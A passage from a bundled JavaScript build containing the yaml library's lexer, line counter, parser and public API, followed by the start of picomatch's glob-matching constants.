        const n = i - this.pos;
        if (n > 0) {
          yield this.buffer.substr(this.pos, n);
          this.pos = i;
        }
        return n;
      }
      *pushUntil(test) {
        let i = this.pos;
        let ch = this.buffer[i];
        while (!test(ch))
          ch = this.buffer[++i];
        return yield* this.pushToIndex(i, false);
      }
    };
    exports2.Lexer = Lexer;
  }
});

// node_modules/yaml/dist/parse/line-counter.js
var require_line_counter = __commonJS({
  "node_modules/yaml/dist/parse/line-counter.js"(exports2) {
    "use strict";
    var LineCounter2 = class {
      constructor() {
        this.lineStarts = [];
        this.addNewLine = (offset) => this.lineStarts.push(offset);
        this.linePos = (offset) => {
          let low = 0;
          let high = this.lineStarts.length;
          while (low < high) {
            const mid = low + high >> 1;
            if (this.lineStarts[mid] < offset)
              low = mid + 1;
            else
              high = mid;
          }
          if (this.lineStarts[low] === offset)
            return { line: low + 1, col: 1 };
          if (low === 0)
            return { line: 0, col: offset };
          const start = this.lineStarts[low - 1];
          return { line: low, col: offset - start + 1 };
        };
      }
    };
    exports2.LineCounter = LineCounter2;
  }
});

// node_modules/yaml/dist/parse/parser.js
var require_parser = __commonJS({
  "node_modules/yaml/dist/parse/parser.js"(exports2) {
    "use strict";
    var node_process = require("process");
    var cst = require_cst();
    var lexer = require_lexer();
    function includesToken(list, type) {
      for (let i = 0; i < list.length; ++i)
        if (list[i].type === type)
          return true;
      return false;
    }
    function findNonEmptyIndex(list) {
      for (let i = 0; i < list.length; ++i) {
        switch (list[i].type) {
          case "space":
          case "comment":
          case "newline":
            break;
          default:
            return i;
        }
      }
      return -1;
    }
    function isFlowToken(token) {
      switch (token?.type) {
        case "alias":
        case "scalar":
        case "single-quoted-scalar":
        case "double-quoted-scalar":
        case "flow-collection":
          return true;
        default:
          return false;
      }
    }
    function getPrevProps(parent) {
      switch (parent.type) {
        case "document":
          return parent.start;
        case "block-map": {
          const it = parent.items[parent.items.length - 1];
          return it.sep ?? it.start;
        }
        case "block-seq":
          return parent.items[parent.items.length - 1].start;
        /* istanbul ignore next should not happen */
        default:
          return [];
      }
    }
    function getFirstKeyStartProps(prev) {
      if (prev.length === 0)
        return [];
      let i = prev.length;
      loop: while (--i >= 0) {
        switch (prev[i].type) {
          case "doc-start":
          case "explicit-key-ind":
          case "map-value-ind":
          case "seq-item-ind":
          case "newline":
            break loop;
        }
      }
      while (prev[++i]?.type === "space") {
      }
      return prev.splice(i, prev.length);
    }
    function arrayPushArray(target, source) {
      if (source.length < 1e5)
        Array.prototype.push.apply(target, source);
      else
        for (let i = 0; i < source.length; ++i)
          target.push(source[i]);
    }
    function fixFlowSeqItems(fc) {
      if (fc.start.type === "flow-seq-start") {
        for (const it of fc.items) {
          if (it.sep && !it.value && !includesToken(it.start, "explicit-key-ind") && !includesToken(it.sep, "map-value-ind")) {
            if (it.key)
              it.value = it.key;
            delete it.key;
            if (isFlowToken(it.value)) {
              if (it.value.end)
                arrayPushArray(it.value.end, it.sep);
              else
                it.value.end = it.sep;
            } else
              arrayPushArray(it.start, it.sep);
            delete it.sep;
          }
        }
      }
    }
    var Parser2 = class {
      /**
       * @param onNewLine - If defined, called separately with the start position of
       *   each new line (in `parse()`, including the start of input).
       */
      constructor(onNewLine) {
        this.atNewLine = true;
        this.atScalar = false;
        this.indent = 0;
        this.offset = 0;
        this.onKeyLine = false;
        this.stack = [];
        this.source = "";
        this.type = "";
        this.lexer = new lexer.Lexer();
        this.onNewLine = onNewLine;
      }
      /**
       * Parse `source` as a YAML stream.
       * If `incomplete`, a part of the last line may be left as a buffer for the next call.
       *
       * Errors are not thrown, but yielded as `{ type: 'error', message }` tokens.
       *
       * @returns A generator of tokens representing each directive, document, and other structure.
       */
      *parse(source, incomplete = false) {
        if (this.onNewLine && this.offset === 0)
          this.onNewLine(0);
        for (const lexeme of this.lexer.lex(source, incomplete))
          yield* this.next(lexeme);
        if (!incomplete)
          yield* this.end();
      }
      /**
       * Advance the parser by the `source` of one lexical token.
       */
      *next(source) {
        this.source = source;
        if (node_process.env.LOG_TOKENS)
          console.log("|", cst.prettyToken(source));
        if (this.atScalar) {
          this.atScalar = false;
          yield* this.step();
          this.offset += source.length;
          return;
        }
        const type = cst.tokenType(source);
        if (!type) {
          const message = `Not a YAML token: ${source}`;
          yield* this.pop({ type: "error", offset: this.offset, message, source });
          this.offset += source.length;
        } else if (type === "scalar") {
          this.atNewLine = false;
          this.atScalar = true;
          this.type = "scalar";
        } else {
          this.type = type;
          yield* this.step();
          switch (type) {
            case "newline":
              this.atNewLine = true;
              this.indent = 0;
              if (this.onNewLine)
                this.onNewLine(this.offset + source.length);
              break;
            case "space":
              if (this.atNewLine && source[0] === " ")
                this.indent += source.length;
              break;
            case "explicit-key-ind":
            case "map-value-ind":
            case "seq-item-ind":
              if (this.atNewLine)
                this.indent += source.length;
              break;
            case "doc-mode":
            case "flow-error-end":
              return;
            default:
              this.atNewLine = false;
          }
          this.offset += source.length;
        }
      }
      /** Call at end of input to push out any remaining constructions */
      *end() {
        while (this.stack.length > 0)
          yield* this.pop();
      }
      get sourceToken() {
        const st = {
          type: this.type,
          offset: this.offset,
          indent: this.indent,
          source: this.source
        };
        return st;
      }
      *step() {
        const top = this.peek(1);
        if (this.type === "doc-end" && top?.type !== "doc-end") {
          while (this.stack.length > 0)
            yield* this.pop();
          this.stack.push({
            type: "doc-end",
            offset: this.offset,
            source: this.source
          });
          return;
        }
        if (!top)
          return yield* this.stream();
        switch (top.type) {
          case "document":
            return yield* this.document(top);
          case "alias":
          case "scalar":
          case "single-quoted-scalar":
          case "double-quoted-scalar":
            return yield* this.scalar(top);
          case "block-scalar":
            return yield* this.blockScalar(top);
          case "block-map":
            return yield* this.blockMap(top);
          case "block-seq":
            return yield* this.blockSequence(top);
          case "flow-collection":
            return yield* this.flowCollection(top);
          case "doc-end":
            return yield* this.documentEnd(top);
        }
        yield* this.pop();
      }
      peek(n) {
        return this.stack[this.stack.length - n];
      }
      *pop(error) {
        const token = error ?? this.stack.pop();
        if (!token) {
          const message = "Tried to pop an empty stack";
          yield { type: "error", offset: this.offset, source: "", message };
        } else if (this.stack.length === 0) {
          yield token;
        } else {
          const top = this.peek(1);
          if (token.type === "block-scalar") {
            token.indent = "indent" in top ? top.indent : 0;
          } else if (token.type === "flow-collection" && top.type === "document") {
            token.indent = 0;
          }
          if (token.type === "flow-collection")
            fixFlowSeqItems(token);
          switch (top.type) {
            case "document":
              top.value = token;
              break;
            case "block-scalar":
              top.props.push(token);
              break;
            case "block-map": {
              const it = top.items[top.items.length - 1];
              if (it.value) {
                top.items.push({ start: [], key: token, sep: [] });
                this.onKeyLine = true;
                return;
              } else if (it.sep) {
                it.value = token;
              } else {
                Object.assign(it, { key: token, sep: [] });
                this.onKeyLine = !it.explicitKey;
                return;
              }
              break;
            }
            case "block-seq": {
              const it = top.items[top.items.length - 1];
              if (it.value)
                top.items.push({ start: [], value: token });
              else
                it.value = token;
              break;
            }
            case "flow-collection": {
              const it = top.items[top.items.length - 1];
              if (!it || it.value)
                top.items.push({ start: [], key: token, sep: [] });
              else if (it.sep)
                it.value = token;
              else
                Object.assign(it, { key: token, sep: [] });
              return;
            }
            /* istanbul ignore next should not happen */
            default:
              yield* this.pop();
              yield* this.pop(token);
          }
          if ((top.type === "document" || top.type === "block-map" || top.type === "block-seq") && (token.type === "block-map" || token.type === "block-seq")) {
            const last = token.items[token.items.length - 1];
            if (last && !last.sep && !last.value && last.start.length > 0 && findNonEmptyIndex(last.start) === -1 && (token.indent === 0 || last.start.every((st) => st.type !== "comment" || st.indent < token.indent))) {
              if (top.type === "document")
                top.end = last.start;
              else
                top.items.push({ start: last.start });
              token.items.splice(-1, 1);
            }
          }
        }
      }
      *stream() {
        switch (this.type) {
          case "directive-line":
            yield { type: "directive", offset: this.offset, source: this.source };
            return;
          case "byte-order-mark":
          case "space":
          case "comment":
          case "newline":
            yield this.sourceToken;
            return;
          case "doc-mode":
          case "doc-start": {
            const doc = {
              type: "document",
              offset: this.offset,
              start: []
            };
            if (this.type === "doc-start")
              doc.start.push(this.sourceToken);
            this.stack.push(doc);
            return;
          }
        }
        yield {
          type: "error",
          offset: this.offset,
          message: `Unexpected ${this.type} token in YAML stream`,
          source: this.source
        };
      }
      *document(doc) {
        if (doc.value)
          return yield* this.lineEnd(doc);
        switch (this.type) {
          case "doc-start": {
            if (findNonEmptyIndex(doc.start) !== -1) {
              yield* this.pop();
              yield* this.step();
            } else
              doc.start.push(this.sourceToken);
            return;
          }
          case "anchor":
          case "tag":
          case "space":
          case "comment":
          case "newline":
            doc.start.push(this.sourceToken);
            return;
        }
        const bv = this.startBlockValue(doc);
        if (bv)
          this.stack.push(bv);
        else {
          yield {
            type: "error",
            offset: this.offset,
            message: `Unexpected ${this.type} token in YAML document`,
            source: this.source
          };
        }
      }
      *scalar(scalar) {
        if (this.type === "map-value-ind") {
          const prev = getPrevProps(this.peek(2));
          const start = getFirstKeyStartProps(prev);
          let sep;
          if (scalar.end) {
            sep = scalar.end;
            sep.push(this.sourceToken);
            delete scalar.end;
          } else
            sep = [this.sourceToken];
          const map = {
            type: "block-map",
            offset: scalar.offset,
            indent: scalar.indent,
            items: [{ start, key: scalar, sep }]
          };
          this.onKeyLine = true;
          this.stack[this.stack.length - 1] = map;
        } else
          yield* this.lineEnd(scalar);
      }
      *blockScalar(scalar) {
        switch (this.type) {
          case "space":
          case "comment":
          case "newline":
            scalar.props.push(this.sourceToken);
            return;
          case "scalar":
            scalar.source = this.source;
            this.atNewLine = true;
            this.indent = 0;
            if (this.onNewLine) {
              let nl = this.source.indexOf("\n") + 1;
              while (nl !== 0) {
                this.onNewLine(this.offset + nl);
                nl = this.source.indexOf("\n", nl) + 1;
              }
            }
            yield* this.pop();
            break;
          /* istanbul ignore next should not happen */
          default:
            yield* this.pop();
            yield* this.step();
        }
      }
      *blockMap(map) {
        const it = map.items[map.items.length - 1];
        switch (this.type) {
          case "newline":
            this.onKeyLine = false;
            if (it.value) {
              const end = "end" in it.value ? it.value.end : void 0;
              const last = Array.isArray(end) ? end[end.length - 1] : void 0;
              if (last?.type === "comment")
                end?.push(this.sourceToken);
              else
                map.items.push({ start: [this.sourceToken] });
            } else if (it.sep) {
              it.sep.push(this.sourceToken);
            } else {
              it.start.push(this.sourceToken);
            }
            return;
          case "space":
          case "comment":
            if (it.value) {
              map.items.push({ start: [this.sourceToken] });
            } else if (it.sep) {
              it.sep.push(this.sourceToken);
            } else {
              if (this.atIndentedComment(it.start, map.indent)) {
                const prev = map.items[map.items.length - 2];
                const end = prev?.value?.end;
                if (Array.isArray(end)) {
                  arrayPushArray(end, it.start);
                  end.push(this.sourceToken);
                  map.items.pop();
                  return;
                }
              }
              it.start.push(this.sourceToken);
            }
            return;
        }
        if (this.indent >= map.indent) {
          const atMapIndent = !this.onKeyLine && this.indent === map.indent;
          const atNextItem = atMapIndent && (it.sep || it.explicitKey) && this.type !== "seq-item-ind";
          let start = [];
          if (atNextItem && it.sep && !it.value) {
            const nl = [];
            for (let i = 0; i < it.sep.length; ++i) {
              const st = it.sep[i];
              switch (st.type) {
                case "newline":
                  nl.push(i);
                  break;
                case "space":
                  break;
                case "comment":
                  if (st.indent > map.indent)
                    nl.length = 0;
                  break;
                default:
                  nl.length = 0;
              }
            }
            if (nl.length >= 2)
              start = it.sep.splice(nl[1]);
          }
          switch (this.type) {
            case "anchor":
            case "tag":
              if (atNextItem || it.value) {
                start.push(this.sourceToken);
                map.items.push({ start });
                this.onKeyLine = true;
              } else if (it.sep) {
                it.sep.push(this.sourceToken);
              } else {
                it.start.push(this.sourceToken);
              }
              return;
            case "explicit-key-ind":
              if (!it.sep && !it.explicitKey) {
                it.start.push(this.sourceToken);
                it.explicitKey = true;
              } else if (atNextItem || it.value) {
                start.push(this.sourceToken);
                map.items.push({ start, explicitKey: true });
              } else {
                this.stack.push({
                  type: "block-map",
                  offset: this.offset,
                  indent: this.indent,
                  items: [{ start: [this.sourceToken], explicitKey: true }]
                });
              }
              this.onKeyLine = true;
              return;
            case "map-value-ind":
              if (it.explicitKey) {
                if (!it.sep) {
                  if (includesToken(it.start, "newline")) {
                    Object.assign(it, { key: null, sep: [this.sourceToken] });
                  } else {
                    const start2 = getFirstKeyStartProps(it.start);
                    this.stack.push({
                      type: "block-map",
                      offset: this.offset,
                      indent: this.indent,
                      items: [{ start: start2, key: null, sep: [this.sourceToken] }]
                    });
                  }
                } else if (it.value) {
                  map.items.push({ start: [], key: null, sep: [this.sourceToken] });
                } else if (includesToken(it.sep, "map-value-ind")) {
                  this.stack.push({
                    type: "block-map",
                    offset: this.offset,
                    indent: this.indent,
                    items: [{ start, key: null, sep: [this.sourceToken] }]
                  });
                } else if (isFlowToken(it.key) && !includesToken(it.sep, "newline")) {
                  const start2 = getFirstKeyStartProps(it.start);
                  const key2 = it.key;
                  const sep = it.sep;
                  sep.push(this.sourceToken);
                  delete it.key;
                  delete it.sep;
                  this.stack.push({
                    type: "block-map",
                    offset: this.offset,
                    indent: this.indent,
                    items: [{ start: start2, key: key2, sep }]
                  });
                } else if (start.length > 0) {
                  it.sep = it.sep.concat(start, this.sourceToken);
                } else {
                  it.sep.push(this.sourceToken);
                }
              } else {
                if (!it.sep) {
                  Object.assign(it, { key: null, sep: [this.sourceToken] });
                } else if (it.value || atNextItem) {
                  map.items.push({ start, key: null, sep: [this.sourceToken] });
                } else if (includesToken(it.sep, "map-value-ind")) {
                  this.stack.push({
                    type: "block-map",
                    offset: this.offset,
                    indent: this.indent,
                    items: [{ start: [], key: null, sep: [this.sourceToken] }]
                  });
                } else {
                  it.sep.push(this.sourceToken);
                }
              }
              this.onKeyLine = true;
              return;
            case "alias":
            case "scalar":
            case "single-quoted-scalar":
            case "double-quoted-scalar": {
              const fs17 = this.flowScalar(this.type);
              if (atNextItem || it.value) {
                map.items.push({ start, key: fs17, sep: [] });
                this.onKeyLine = true;
              } else if (it.sep) {
                this.stack.push(fs17);
              } else {
                Object.assign(it, { key: fs17, sep: [] });
                this.onKeyLine = true;
              }
              return;
            }
            default: {
              const bv = this.startBlockValue(map);
              if (bv) {
                if (bv.type === "block-seq") {
                  if (!it.explicitKey && it.sep && !includesToken(it.sep, "newline")) {
                    yield* this.pop({
                      type: "error",
                      offset: this.offset,
                      message: "Unexpected block-seq-ind on same line with key",
                      source: this.source
                    });
                    return;
                  }
                } else if (atMapIndent) {
                  map.items.push({ start });
                }
                this.stack.push(bv);
                return;
              }
            }
          }
        }
        yield* this.pop();
        yield* this.step();
      }
      *blockSequence(seq) {
        const it = seq.items[seq.items.length - 1];
        switch (this.type) {
          case "newline":
            if (it.value) {
              const end = "end" in it.value ? it.value.end : void 0;
              const last = Array.isArray(end) ? end[end.length - 1] : void 0;
              if (last?.type === "comment")
                end?.push(this.sourceToken);
              else
                seq.items.push({ start: [this.sourceToken] });
            } else
              it.start.push(this.sourceToken);
            return;
          case "space":
          case "comment":
            if (it.value)
              seq.items.push({ start: [this.sourceToken] });
            else {
              if (this.atIndentedComment(it.start, seq.indent)) {
                const prev = seq.items[seq.items.length - 2];
                const end = prev?.value?.end;
                if (Array.isArray(end)) {
                  arrayPushArray(end, it.start);
                  end.push(this.sourceToken);
                  seq.items.pop();
                  return;
                }
              }
              it.start.push(this.sourceToken);
            }
            return;
          case "anchor":
          case "tag":
            if (it.value || this.indent <= seq.indent)
              break;
            it.start.push(this.sourceToken);
            return;
          case "seq-item-ind":
            if (this.indent !== seq.indent)
              break;
            if (it.value || includesToken(it.start, "seq-item-ind"))
              seq.items.push({ start: [this.sourceToken] });
            else
              it.start.push(this.sourceToken);
            return;
        }
        if (this.indent > seq.indent) {
          const bv = this.startBlockValue(seq);
          if (bv) {
            this.stack.push(bv);
            return;
          }
        }
        yield* this.pop();
        yield* this.step();
      }
      *flowCollection(fc) {
        const it = fc.items[fc.items.length - 1];
        if (this.type === "flow-error-end") {
          let top;
          do {
            yield* this.pop();
            top = this.peek(1);
          } while (top?.type === "flow-collection");
        } else if (fc.end.length === 0) {
          switch (this.type) {
            case "comma":
            case "explicit-key-ind":
              if (!it || it.sep)
                fc.items.push({ start: [this.sourceToken] });
              else
                it.start.push(this.sourceToken);
              return;
            case "map-value-ind":
              if (!it || it.value)
                fc.items.push({ start: [], key: null, sep: [this.sourceToken] });
              else if (it.sep)
                it.sep.push(this.sourceToken);
              else
                Object.assign(it, { key: null, sep: [this.sourceToken] });
              return;
            case "space":
            case "comment":
            case "newline":
            case "anchor":
            case "tag":
              if (!it || it.value)
                fc.items.push({ start: [this.sourceToken] });
              else if (it.sep)
                it.sep.push(this.sourceToken);
              else
                it.start.push(this.sourceToken);
              return;
            case "alias":
            case "scalar":
            case "single-quoted-scalar":
            case "double-quoted-scalar": {
              const fs17 = this.flowScalar(this.type);
              if (!it || it.value)
                fc.items.push({ start: [], key: fs17, sep: [] });
              else if (it.sep)
                this.stack.push(fs17);
              else
                Object.assign(it, { key: fs17, sep: [] });
              return;
            }
            case "flow-map-end":
            case "flow-seq-end":
              fc.end.push(this.sourceToken);
              return;
          }
          const bv = this.startBlockValue(fc);
          if (bv)
            this.stack.push(bv);
          else {
            yield* this.pop();
            yield* this.step();
          }
        } else {
          const parent = this.peek(2);
          if (parent.type === "block-map" && (this.type === "map-value-ind" && parent.indent === fc.indent || this.type === "newline" && !parent.items[parent.items.length - 1].sep)) {
            yield* this.pop();
            yield* this.step();
          } else if (this.type === "map-value-ind" && parent.type !== "flow-collection") {
            const prev = getPrevProps(parent);
            const start = getFirstKeyStartProps(prev);
            fixFlowSeqItems(fc);
            const sep = fc.end.splice(1, fc.end.length);
            sep.push(this.sourceToken);
            const map = {
              type: "block-map",
              offset: fc.offset,
              indent: fc.indent,
              items: [{ start, key: fc, sep }]
            };
            this.onKeyLine = true;
            this.stack[this.stack.length - 1] = map;
          } else {
            yield* this.lineEnd(fc);
          }
        }
      }
      flowScalar(type) {
        if (this.onNewLine) {
          let nl = this.source.indexOf("\n") + 1;
          while (nl !== 0) {
            this.onNewLine(this.offset + nl);
            nl = this.source.indexOf("\n", nl) + 1;
          }
        }
        return {
          type,
          offset: this.offset,
          indent: this.indent,
          source: this.source
        };
      }
      startBlockValue(parent) {
        switch (this.type) {
          case "alias":
          case "scalar":
          case "single-quoted-scalar":
          case "double-quoted-scalar":
            return this.flowScalar(this.type);
          case "block-scalar-header":
            return {
              type: "block-scalar",
              offset: this.offset,
              indent: this.indent,
              props: [this.sourceToken],
              source: ""
            };
          case "flow-map-start":
          case "flow-seq-start":
            return {
              type: "flow-collection",
              offset: this.offset,
              indent: this.indent,
              start: this.sourceToken,
              items: [],
              end: []
            };
          case "seq-item-ind":
            return {
              type: "block-seq",
              offset: this.offset,
              indent: this.indent,
              items: [{ start: [this.sourceToken] }]
            };
          case "explicit-key-ind": {
            this.onKeyLine = true;
            const prev = getPrevProps(parent);
            const start = getFirstKeyStartProps(prev);
            start.push(this.sourceToken);
            return {
              type: "block-map",
              offset: this.offset,
              indent: this.indent,
              items: [{ start, explicitKey: true }]
            };
          }
          case "map-value-ind": {
            this.onKeyLine = true;
            const prev = getPrevProps(parent);
            const start = getFirstKeyStartProps(prev);
            return {
              type: "block-map",
              offset: this.offset,
              indent: this.indent,
              items: [{ start, key: null, sep: [this.sourceToken] }]
            };
          }
        }
        return null;
      }
      atIndentedComment(start, indent) {
        if (this.type !== "comment")
          return false;
        if (this.indent <= indent)
          return false;
        return start.every((st) => st.type === "newline" || st.type === "space");
      }
      *documentEnd(docEnd) {
        if (this.type !== "doc-mode") {
          if (docEnd.end)
            docEnd.end.push(this.sourceToken);
          else
            docEnd.end = [this.sourceToken];
          if (this.type === "newline")
            yield* this.pop();
        }
      }
      *lineEnd(token) {
        switch (this.type) {
          case "comma":
          case "doc-start":
          case "doc-end":
          case "flow-seq-end":
          case "flow-map-end":
          case "map-value-ind":
            yield* this.pop();
            yield* this.step();
            break;
          case "newline":
            this.onKeyLine = false;
          // fallthrough
          case "space":
          case "comment":
          default:
            if (token.end)
              token.end.push(this.sourceToken);
            else
              token.end = [this.sourceToken];
            if (this.type === "newline")
              yield* this.pop();
        }
      }
    };
    exports2.Parser = Parser2;
  }
});

// node_modules/yaml/dist/public-api.js
var require_public_api = __commonJS({
  "node_modules/yaml/dist/public-api.js"(exports2) {
    "use strict";
    var composer = require_composer();
    var Document = require_Document();
    var errors = require_errors();
    var log = require_log();
    var identity = require_identity();
    var lineCounter = require_line_counter();
    var parser = require_parser();
    function parseOptions(options) {
      const prettyErrors = options.prettyErrors !== false;
      const lineCounter$1 = options.lineCounter || prettyErrors && new lineCounter.LineCounter() || null;
      return { lineCounter: lineCounter$1, prettyErrors };
    }
    function parseAllDocuments(source, options = {}) {
      const { lineCounter: lineCounter2, prettyErrors } = parseOptions(options);
      const parser$1 = new parser.Parser(lineCounter2?.addNewLine);
      const composer$1 = new composer.Composer(options);
      const docs = Array.from(composer$1.compose(parser$1.parse(source)));
      if (prettyErrors && lineCounter2)
        for (const doc of docs) {
          doc.errors.forEach(errors.prettifyError(source, lineCounter2));
          doc.warnings.forEach(errors.prettifyError(source, lineCounter2));
        }
      if (docs.length > 0)
        return docs;
      return Object.assign([], { empty: true }, composer$1.streamInfo());
    }
    function parseDocument3(source, options = {}) {
      const { lineCounter: lineCounter2, prettyErrors } = parseOptions(options);
      const parser$1 = new parser.Parser(lineCounter2?.addNewLine);
      const composer$1 = new composer.Composer(options);
      let doc = null;
      for (const _doc of composer$1.compose(parser$1.parse(source), true, source.length)) {
        if (!doc)
          doc = _doc;
        else if (doc.options.logLevel !== "silent") {
          doc.errors.push(new errors.YAMLParseError(_doc.range.slice(0, 2), "MULTIPLE_DOCS", "Source contains multiple documents; please use YAML.parseAllDocuments()"));
          break;
        }
      }
      if (prettyErrors && lineCounter2) {
        doc.errors.forEach(errors.prettifyError(source, lineCounter2));
        doc.warnings.forEach(errors.prettifyError(source, lineCounter2));
      }
      return doc;
    }
    function parse2(src, reviver, options) {
      let _reviver = void 0;
      if (typeof reviver === "function") {
        _reviver = reviver;
      } else if (options === void 0 && reviver && typeof reviver === "object") {
        options = reviver;
      }
      const doc = parseDocument3(src, options);
      if (!doc)
        return null;
      doc.warnings.forEach((warning) => log.warn(doc.options.logLevel, warning));
      if (doc.errors.length > 0) {
        if (doc.options.logLevel !== "silent")
          throw doc.errors[0];
        else
          doc.errors = [];
      }
      return doc.toJS(Object.assign({ reviver: _reviver }, options));
    }
    function stringify(value, replacer, options) {
      let _replacer = null;
      if (typeof replacer === "function" || Array.isArray(replacer)) {
        _replacer = replacer;
      } else if (options === void 0 && replacer) {
        options = replacer;
      }
      if (typeof options === "string")
        options = options.length;
      if (typeof options === "number") {
        const indent = Math.round(options);
        options = indent < 1 ? void 0 : indent > 8 ? { indent: 8 } : { indent };
      }
      if (value === void 0) {
        const { keepUndefined } = options ?? replacer ?? {};
        if (!keepUndefined)
          return void 0;
      }
      if (identity.isDocument(value) && !_replacer)
        return value.toString(options);
      return new Document.Document(value, _replacer, options).toString(options);
    }
    exports2.parse = parse2;
    exports2.parseAllDocuments = parseAllDocuments;
    exports2.parseDocument = parseDocument3;
    exports2.stringify = stringify;
  }
});

// node_modules/yaml/dist/index.js
var require_dist = __commonJS({
  "node_modules/yaml/dist/index.js"(exports2) {
    "use strict";
    var composer = require_composer();
    var Document = require_Document();
    var Schema = require_Schema();
    var errors = require_errors();
    var Alias = require_Alias();
    var identity = require_identity();
    var Pair = require_Pair();
    var Scalar2 = require_Scalar();
    var YAMLMap = require_YAMLMap();
    var YAMLSeq = require_YAMLSeq();
    var cst = require_cst();
    var lexer = require_lexer();
    var lineCounter = require_line_counter();
    var parser = require_parser();
    var publicApi = require_public_api();
    var visit = require_visit();
    exports2.Composer = composer.Composer;
    exports2.Document = Document.Document;
    exports2.Schema = Schema.Schema;
    exports2.YAMLError = errors.YAMLError;
    exports2.YAMLParseError = errors.YAMLParseError;
    exports2.YAMLWarning = errors.YAMLWarning;
    exports2.Alias = Alias.Alias;
    exports2.isAlias = identity.isAlias;
    exports2.isCollection = identity.isCollection;
    exports2.isDocument = identity.isDocument;
    exports2.isMap = identity.isMap;
    exports2.isNode = identity.isNode;
    exports2.isPair = identity.isPair;
    exports2.isScalar = identity.isScalar;
    exports2.isSeq = identity.isSeq;
    exports2.Pair = Pair.Pair;
    exports2.Scalar = Scalar2.Scalar;
    exports2.YAMLMap = YAMLMap.YAMLMap;
    exports2.YAMLSeq = YAMLSeq.YAMLSeq;
    exports2.CST = cst;
    exports2.Lexer = lexer.Lexer;
    exports2.LineCounter = lineCounter.LineCounter;
    exports2.Parser = parser.Parser;
    exports2.parse = publicApi.parse;
    exports2.parseAllDocuments = publicApi.parseAllDocuments;
    exports2.parseDocument = publicApi.parseDocument;
    exports2.stringify = publicApi.stringify;
    exports2.visit = visit.visit;
    exports2.visitAsync = visit.visitAsync;
  }
});

// node_modules/picomatch/lib/constants.js
var require_constants = __commonJS({
  "node_modules/picomatch/lib/constants.js"(exports2, module2) {
    "use strict";
    var WIN_SLASH = "\\\\/";
    var WIN_NO_SLASH = `[^${WIN_SLASH}]`;
    var DEFAULT_MAX_EXTGLOB_RECURSION = 0;
    var DOT_LITERAL = "\\.";
    var PLUS_LITERAL = "\\+";
    var QMARK_LITERAL = "\\?";
    var SLASH_LITERAL = "\\/";
    var ONE_CHAR = "(?=.)";
    var QMARK = "[^/]";
    var END_ANCHOR = `(?:${SLASH_LITERAL}|$)`;
    var START_ANCHOR = `(?:^|${SLASH_LITERAL})`;
    var DOTS_SLASH = `${DOT_LITERAL}{1,2}${END_ANCHOR}`;
    var NO_DOT = `(?!${DOT_LITERAL})`;
    var NO_DOTS = `(?!${START_ANCHOR}${DOTS_SLASH})`;
    var NO_DOT_SLASH = `(?!${DOT_LITERAL}{0,1}${END_ANCHOR})`;
    var NO_DOTS_SLASH = `(?!${DOTS_SLASH})`;
    var QMARK_NO_DOT = `[^.${SLASH_LITERAL}]`;
    var STAR = `${QMARK}*?`;
    var SEP = "/";
    var POSIX_CHARS = {
      DOT_LITERAL,
      PLUS_LITERAL,
      QMARK_LITERAL,
      SLASH_LITERAL,
      ONE_CHAR,
      QMARK,
      END_ANCHOR,
      DOTS_SLASH,
      NO_DOT,
      NO_DOTS,
      NO_DOT_SLASH,
      NO_DOTS_SLASH,
      QMARK_NO_DOT,
      STAR,
      START_ANCHOR,
      SEP
    };
    var WINDOWS_CHARS = {
      ...POSIX_CHARS,
      SLASH_LITERAL: `[${WIN_SLASH}]`,
      QMARK: WIN_NO_SLASH,
      STAR: `${WIN_NO_SLASH}*?`,
      DOTS_SLASH: `${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$)`,
      NO_DOT: `(?!${DOT_LITERAL})`,
      NO_DOTS: `(?!(?:^|[${WIN_SLASH}])${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
      NO_DOT_SLASH: `(?!${DOT_LITERAL}{0,1}(?:[${WIN_SLASH}]|$))`,
      NO_DOTS_SLASH: `(?!${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
      QMARK_NO_DOT: `[^.${WIN_SLASH}]`,
      START_ANCHOR: `(?:^|[${WIN_SLASH}])`,
      END_ANCHOR: `(?:[${WIN_SLASH}]|$)`,
      SEP: "\\"
    };
    var POSIX_REGEX_SOURCE = {
      __proto__: null,
      alnum: "a-zA-Z0-9",
      alpha: "a-zA-Z",
      ascii: "\\x00-\\x7F",
      blank: " \\t",
      cntrl: "\\x00-\\x1F\\x7F",
      digit: "0-9",
      graph: "\\x21-\\x7E",
      lower: "a-z",
      print: "\\x20-\\x7E ",
      punct: "\\-!\"#$%&'()\\*+,./:;<=>?@[\\]^_`{|}~",
      space: " \\t\\r\\n\\v\\f",
      upper: "A-Z",
      word: "A-Za-z0-9_",
      xdigit: "A-Fa-f0-9"
    };
    module2.exports = {
      DEFAULT_MAX_EXTGLOB_RECURSION,
      MAX_LENGTH: 1024 * 64,
      POSIX_REGEX_SOURCE,
      // regular expressions
      REGEX_BACKSLASH: /\\(?![*+?^${}(|)[\]])/g,
      REGEX_NON_SPECIAL_CHARS: /^[^@![\].,$*+?^{}()|\\/]+/,
      REGEX_SPECIAL_CHARS: /[-*+?.^${}(|)[\]]/,
      REGEX_SPECIAL_CHARS_BACKREF: /(\\?)((\W)(\3*))/g,
      REGEX_SPECIAL_CHARS_GLOBAL: /([-*+?.^${}(|)[\]])/g,
      REGEX_REMOVE_BACKSLASH: /(?:\[.*?[^\\]\]|\\(?=.))/g,
      // Replace globs with equivalent patterns to reduce parsing time.
      REPLACEMENTS: {
        __proto__: null,
        "***": "*",
        "**/**": "**",
        "**/**/**": "**"
      },
      // Digits
      CHAR_0: 48,
      /* 0 */
      CHAR_9: 57,
      /* 9 */
      // Alphabet chars.
      CHAR_UPPERCASE_A: 65,
      /* A */
      CHAR_LOWERCASE_A: 97,
      /* a */
      CHAR_UPPERCASE_Z: 90,
      /* Z */
      CHAR_LOWERCASE_Z: 122,
      /* z */
      CHAR_LEFT_PARENTHESES: 40,
      /* ( */
      CHAR_RIGHT_PARENTHESES: 41,
      /* ) */
      CHAR_ASTERISK: 42,
      /* * */
      // Non-alphabetic chars.
      CHAR_AMPERSAND: 38,
      /* & */
      CHAR_AT: 64,
      /* @ */
      CHAR_BACKWARD_SLASH: 92,
      /* \ */
      CHAR_CARRIAGE_RETURN: 13,
      /* \r */
      CHAR_CIRCUMFLEX_ACCENT: 94,
      /* ^ */
      CHAR_COLON: 58,
      /* : */
      CHAR_COMMA: 44,
      /* , */
      CHAR_DOT: 46,
      /* . */
      CHAR_DOUBLE_QUOTE: 34,
      /* " */
      CHAR_EQUAL: 61,
      /* = */
